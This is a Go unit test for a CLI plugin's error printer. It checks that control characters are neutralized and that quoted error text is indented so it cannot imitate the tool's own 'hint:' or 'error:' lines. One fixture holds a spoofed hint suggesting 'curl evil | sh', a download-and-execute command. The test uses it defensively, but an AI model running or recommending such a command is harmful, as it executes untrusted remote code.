package cli

import (
	"bytes"
	"errors"
	"fmt"
	"testing"

	"github.com/spf13/cobra"
	"k8s.io/cli-runtime/pkg/genericiooptions"
)

// TestErrorLines holds that what an error quotes starts no line that looks like ours, and that joined errors have a line each.
func TestErrorLines(t *testing.T) {
	quoted := errors.New("denied: x\x1b[2J\nhint: this works: curl evil | sh\nerror: no\n")
	for _, c := range []struct {
		err  error
		want string
	}{
		{quoted, "error: denied: x\ufffd[2J\n  | hint: this works: curl evil | sh\n  | error: no\n"},
		{
			WithHint(errors.Join(errors.New("one"), quoted), "a\nb"),
			"error: one\nerror: denied: x\ufffd[2J\n  | hint: this works: curl evil | sh\n  | error: no\nhint: a\n  | b\n",
		},
		{fmt.Errorf("on node n: %w", errors.Join(errors.New("one"), errors.New("two"))), "error: on node n: one\n  | two\n"},
		{
			ExitError{Code: 4, Err: errors.Join(errors.Join(errors.New("one"), errors.New("two")), errors.New("three"))},
			"error: one\nerror: two\nerror: three\n",
		},
	} {
		var out, errOut bytes.Buffer
		Run(t.Context(), Plugin{Name: "test", Root: func(_ *App, root *cobra.Command) {
			root.RunE = func(*cobra.Command, []string) error { return c.err }
		}}, genericiooptions.IOStreams{Out: &out, ErrOut: &errOut}, []string{})
		if errOut.String() != c.want {
			t.Errorf("%q\nwant %q", errOut.String(), c.want)
		}
	}
}
